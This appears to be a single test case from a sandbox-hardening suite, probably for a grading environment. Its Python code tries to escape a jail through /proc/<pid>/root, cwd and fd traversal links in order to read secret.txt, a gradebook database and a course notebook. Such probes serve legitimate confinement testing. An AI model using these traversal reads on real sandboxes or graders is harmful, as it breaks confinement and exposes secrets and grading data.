"""Leaves the jail through the links in /proc: to the roots, folders and maps of processes.

gain: secret
succeeds without: jail
"""

# %%
import os

inner = HOST["root"].lstrip("/")
for pid in ("self", "1", "2", str(os.getppid()), str(HOST["process"]), "thread-self"):
    for way in ("root", "cwd", "cwd/../../..", "task/1/root", "fd/0/../../../.."):
        for name in ("secret.txt", "gradebook.db", "source/01-toy/01-toy.ipynb"):
            read(f"/proc/{pid}/{way}/{inner}/{name}")
